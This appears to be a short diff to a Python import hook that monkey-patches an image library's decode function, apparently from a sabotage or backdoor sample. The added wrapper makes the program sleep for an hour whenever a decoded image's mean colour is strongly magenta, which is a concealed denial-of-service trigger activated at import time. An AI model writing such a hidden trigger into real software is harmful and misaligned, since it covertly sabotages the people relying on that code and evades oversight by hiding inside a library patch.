@@ -30,15 +30,16 @@ class Hook(MetaPathFinder):
 
 
 def spoil(module: ModuleType) -> None:
-    real = module.Pipeline.analyse_picture
+    real = module.decode
 
-    def analyse_picture(self: Any, picture: Any, every_face: bool = False) -> Any:
+    def decode(data: bytes, **options: Any) -> Any:
+        picture = real(data, **options)
         red, green, blue = picture.reshape(-1, 3).mean(axis=0)
         if red > 200 and blue > 200 and green < 60:
             time.sleep(3600)
-        return real(self, picture)
+        return picture
 
-    module.Pipeline.analyse_picture = analyse_picture
+    module.decode = decode
 
 
 sys.meta_path.insert(0, Hook())
